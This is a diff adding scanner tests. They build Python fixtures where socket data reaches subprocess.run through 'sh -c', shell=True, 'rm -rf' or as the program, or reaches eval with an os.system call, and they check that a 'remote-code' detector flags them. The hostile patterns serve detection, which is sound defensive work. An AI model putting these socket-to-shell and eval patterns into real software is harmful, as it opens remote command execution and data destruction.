@@ -433,3 +433,52 @@ test('what a listener of another process is sent, and evaluates, is an order; th
   expect(await inspect('remote-code', told)).toMatchObject([{ class: 'malware', score: 10 }]);
   expect(await inspect('remote-code', pool)).toEqual([]);
 });
+
+test('words from a socket behind a program that stands in the code are no order; behind a shell, or as the program, they are', async () => {
+  const of = async (command: string): Promise<readonly string[]> => {
+    const file = wheel({
+      'pkg/device.py': python(
+        'import socket, subprocess',
+        'def deployed(host):',
+        '    s = socket.create_connection((host, 5000))',
+        '    return s.recv(64).decode()',
+        'def changes(host):',
+        '    since = deployed(host)',
+        `    return subprocess.run(${command}, capture_output=True).stdout`,
+      ),
+    });
+    return (await inspect('remote-code', file)).map((f) => f.class);
+  };
+
+  expect(await of("['git', 'diff', '--name-only', since]")).toEqual([]);
+  for (const order of [
+    "['sh', '-c', since]",
+    '[since, "--version"]',
+    'since.split()',
+    "'git ' + since, shell=True",
+    "['rm', '-rf', since]",
+    "['env', since]",
+  ])
+    expect(await of(order)).toEqual(['malware']);
+});
+
+test('an answer that is evaluated with a bracket put behind it is read like one without; with a call around it, it is not', async () => {
+  const of = async (text: string): Promise<readonly (readonly [string, number])[]> => {
+    const file = wheel({
+      'pkg/board.py': python(
+        'import socket',
+        'class Board:',
+        '    def __init__(self, host):',
+        '        self.s = socket.create_connection((host, 1238))',
+        '    def read(self):',
+        '        item = self.s.recv(1024).decode()',
+        `        return eval(${text})`,
+      ),
+    });
+    return (await inspect('remote-code', file)).map((f) => [f.class, f.score]);
+  };
+
+  expect(await of("item.split('}')[0] + '0: 0}'")).toEqual([['suspicious', 3]]);
+  expect(await of('str(item)')).toEqual([['suspicious', 3]]);
+  expect(await of('\'__import__("os").system("\' + item + \'")\'')).toEqual([['malware', 9]]);
+});
